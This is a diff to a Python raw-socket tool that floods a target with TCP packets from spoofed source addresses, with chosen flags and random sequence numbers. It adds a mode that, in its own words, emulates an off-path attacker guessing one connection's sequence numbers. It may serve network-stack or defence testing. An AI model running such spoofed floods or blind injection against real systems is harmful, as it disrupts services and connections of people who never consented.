@@ -9,7 +9,10 @@ DST: the target address; PORTS: "80" or "1000-2000" (cycled); FLAGS: any of
 S A F R P (SYN, ACK, FIN, RST, PSH); COUNT packets, each from its own
 spoofed source SRC_BASE + i (i = 0..COUNT-1, so a /16 base holds 65536)
 and a random source port and sequence number.  --pps paces the flood
-(0: as fast as the socket takes them).  Prints "sent=N" at the end.
+(0: as fast as the socket takes them).  --sport N: every packet from
+SRC_BASE itself and port N (an off-path attacker guessing one connection's
+sequence numbers), still a random sequence number each.  Prints "sent=N" at
+the end.
 """
 import argparse
 import ipaddress
@@ -51,6 +54,7 @@ def main() -> int:
     ap.add_argument("count", type=int)
     ap.add_argument("src_base")
     ap.add_argument("--pps", type=int, default=0)
+    ap.add_argument("--sport", type=int, default=0)
     a = ap.parse_args()
     flags = 0
     for c in a.flags.upper():
@@ -68,9 +72,9 @@ def main() -> int:
     t0 = time.monotonic()
     sent = 0
     for i in range(a.count):
-        src = struct.pack("!I", base + i)
-        p = packet(src, dst, random.randint(1024, 65535), ports[i % len(ports)], flags,
-                   random.getrandbits(32))
+        src = struct.pack("!I", base if a.sport else base + i)
+        p = packet(src, dst, a.sport or random.randint(1024, 65535), ports[i % len(ports)],
+                   flags, random.getrandbits(32))
         while True:
             try:
                 s.sendto(p, (a.dst, 0))
